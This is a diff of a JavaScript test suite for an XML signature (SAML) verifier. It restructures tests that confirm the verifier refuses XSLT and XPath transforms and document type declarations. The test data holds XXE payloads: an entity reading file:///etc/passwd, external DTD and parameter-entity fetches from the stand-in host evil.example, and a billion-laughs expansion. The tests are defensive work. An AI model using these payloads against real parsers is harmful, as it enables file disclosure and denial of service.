@@ -228,17 +228,20 @@ describe('transforms and references', () => {
     await expectRefused(signXml(unsigned, idp.keys, { transforms }), reason);
   });
 
-  it.each([
-    'http://www.w3.org/TR/1999/REC-xslt-19991116',
-    'http://www.w3.org/TR/1999/REC-xpath-19991116',
-    'http://www.w3.org/2002/06/xmldsig-filter2',
-    'http://www.w3.org/2000/09/xmldsig#base64',
-  ])('refuses the transform %s', async (algorithm) => {
-    const xslt = '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>';
-    const transform = `<Transform Algorithm="${algorithm}">${xslt}</Transform>`;
-    await expectRefused(signedAssertion.replace('<Transforms>', `$&${transform}`), /other parts than expected/);
-    const replaced = signedAssertion.replace(/<Transform Algorithm="[^"]*exc-c14n#"\/>/, transform);
-    await expectRefused(replaced, /is not accepted/);
+  it('refuses XSLT, XPath and every other transform', async () => {
+    const algorithms = [
+      'http://www.w3.org/TR/1999/REC-xslt-19991116',
+      'http://www.w3.org/TR/1999/REC-xpath-19991116',
+      'http://www.w3.org/2002/06/xmldsig-filter2',
+      'http://www.w3.org/2000/09/xmldsig#base64',
+    ];
+    for (const algorithm of algorithms) {
+      const xslt = '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>';
+      const transform = `<Transform Algorithm="${algorithm}">${xslt}</Transform>`;
+      await expectRefused(signedAssertion.replace('<Transforms>', `$&${transform}`), /other parts than expected/);
+      const replaced = signedAssertion.replace(/<Transform Algorithm="[^"]*exc-c14n#"\/>/, transform);
+      await expectRefused(replaced, /is not accepted/);
+    }
   });
 
   it('refuses references to something else, to everything and to several things', async () => {
@@ -283,18 +286,20 @@ describe('XML that two readers may understand differently', () => {
     await expectRefused(signedAssertion.replace('>data-science<', '>data<!-- -->-science<'), /a comment is not/);
   });
 
-  it.each([
-    ['a document type', '<!DOCTYPE samlp:Response>'],
-    ['an entity', '<!DOCTYPE r [<!ENTITY who "admin">]>'],
-    ['an external entity', '<!DOCTYPE r [<!ENTITY who SYSTEM "file:///etc/passwd">]>'],
-    ['an external document type', '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">'],
-    [
-      'a billion laughs',
-      `<!DOCTYPE r [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]>`,
-    ],
-  ])('refuses %s', async (_, prolog) => {
-    await expectRefused(prolog + signedAssertion, /document type declaration is not accepted/);
-    await expectRefused(prolog + signedAssertion.replace('>user-1<', '>&who;&l9;<'), /document type declaration/);
+  it('refuses document types: external entities, a billion laughs', async () => {
+    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
+    const prologs = [
+      '<!DOCTYPE samlp:Response>',
+      '<!DOCTYPE r [<!ENTITY who "admin">]>',
+      '<!DOCTYPE r [<!ENTITY who SYSTEM "file:///etc/passwd">]>',
+      '<!DOCTYPE r [<!ENTITY % who SYSTEM "http://evil.example/who.ent"> %who;]>',
+      '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">',
+      `<!DOCTYPE r [<!ENTITY l0 "lol">${laughs.join('')}]>`,
+    ];
+    for (const prolog of prologs) {
+      await expectRefused(prolog + signedAssertion, /document type declaration is not accepted/);
+      await expectRefused(prolog + signedAssertion.replace('>user-1<', '>&who;&l9;<'), /document type declaration/);
+    }
   });
 
   it('refuses entities without a document type, instructions, CDATA and other encodings', async () => {
